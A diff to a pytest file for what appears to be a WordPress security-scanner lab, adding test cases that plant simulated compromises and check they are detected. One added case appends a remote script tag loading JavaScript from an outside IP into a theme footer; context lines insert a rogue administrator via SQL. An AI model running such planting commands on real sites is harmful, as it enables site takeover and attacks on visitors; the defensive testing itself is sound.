@@ -69,8 +69,20 @@ def test_a_freshly_onboarded_site_scores_zero_and_its_timer_is_set(lab: LabState
          "'a:1:{{s:13:\\\"administrator\\\";b:1;}}' FROM wp_users WHERE user_login='helpdesk'\"",
          "mariadb {db} -e \"DELETE m, u FROM wp_users u JOIN wp_usermeta m ON m.user_id = u.ID "
          "WHERE u.user_login='helpdesk'\"", "database", "critical"),
+        ("cp {root}/wp-content/themes/twentytwentythree/parts/footer.html /root/f.keep && printf "
+         "'<script type=\"text/javascript\" src=\"http://203.0.113.7/jquery.min.js\"></script>\\n' "
+         ">> {root}/wp-content/themes/twentytwentythree/parts/footer.html",
+         "cat /root/f.keep > {root}/wp-content/themes/twentytwentythree/parts/footer.html && rm /root/f.keep",
+         "patterns", "high"),
+        # a plugin version the lab's feed (lab/vulnerabilities.json) lists as vulnerable
+        ("mkdir {root}/wp-content/plugins/carestack-lab-form && printf '<?php\\n/*\\nPlugin Name: Lab form\\n"
+         "Version: 1.3.0\\n*/\\n' > {root}/wp-content/plugins/carestack-lab-form/carestack-lab-form.php",
+         "rm -r {root}/wp-content/plugins/carestack-lab-form", "vulns", "high"),
     ],
-    ids=["obfuscated-php-in-uploads", "web-shell-in-plugin", "modified-core-file", "htaccess-redirect", "new-admin"],
+    ids=[
+        "obfuscated-php-in-uploads", "web-shell-in-plugin", "modified-core-file", "htaccess-redirect", "new-admin",
+        "script-injected-in-theme", "vulnerable-plugin-version",
+    ],
 )  # fmt: skip
 def test_a_planted_attack_is_found_and_the_scan_monitor_goes_down(
     lab: LabState, plant: str, undo: str, check: str, severity: str
